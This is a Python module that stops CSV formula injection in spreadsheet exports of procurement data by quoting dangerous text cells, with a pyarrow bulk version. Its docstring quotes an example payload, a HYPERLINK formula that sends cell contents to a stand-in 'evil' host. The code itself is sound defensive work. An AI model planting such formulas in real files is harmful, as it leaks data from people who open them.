"""Spreadsheet-safe CSV cells: stop a cell being run as a formula (CSV injection).

Our CSV exports carry text that outsiders wrote (supplier and buyer names from OCDS, register
names, applicants' answers). A spreadsheet opening the file runs a cell that starts with `=`,
`+`, `-` or `@` as a formula, and a leading tab or carriage return can hide such a start, so
`=HYPERLINK("http://evil/?"&A1)` in a supplier name would leak data or run commands on an
officer's machine. Following the OWASP advice, such a text cell gets a leading apostrophe, which
spreadsheets show as text and never evaluate. Genuine negative numbers (`-12.5`, `-1e-3`) are
left alone, so negative amounts stay numeric; `+1` is quoted, as a number is never written so.

Pure: no Django, so the pipeline can use it too.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number as we write one (ASCII digits; a sign only if negative).
NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
_FORMULA_START_PATTERN = "^[=+\\-@\t\r]"
_NUMBER_PATTERN = "^" + NUMBER.pattern + "$"


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could run this text as a formula."""
    return text.startswith(FORMULA_STARTS) and NUMBER.fullmatch(text) is None


def safe_cell(value: Any) -> str:
    """The text to write in a CSV cell (as csv.writer would write it), dangerous text quoted."""
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, int | float | Decimal):  # a number's own text, even "-inf", is data
        return text
    return "'" + text if is_dangerous(text) else text


def safe_row(values: Iterable[Any]) -> list[str]:
    return [safe_cell(value) for value in values]


def safe_table(table: pa.Table) -> pa.Table:
    """The same table with every dangerous text value quoted, column by column (vectorised, so
    an export of a million rows costs milliseconds, not a Python loop)."""
    import pyarrow as pa  # here, not at the top: the Django side imports this module too
    import pyarrow.compute as pc

    for index, column_field in enumerate(table.schema):
        if not (
            pa.types.is_string(column_field.type) or pa.types.is_large_string(column_field.type)
        ):
            continue
        column = table.column(index)
        dangerous = pc.and_(
            pc.match_substring_regex(column, _FORMULA_START_PATTERN),
            pc.invert(pc.match_substring_regex(column, _NUMBER_PATTERN)),
        )
        kind = column_field.type  # string or large_string: the literals must match it
        quoted = pc.binary_join_element_wise(pa.scalar("'", kind), column, pa.scalar("", kind))
        table = table.set_column(index, column_field, pc.if_else(dangerous, quoted, column))
    return table
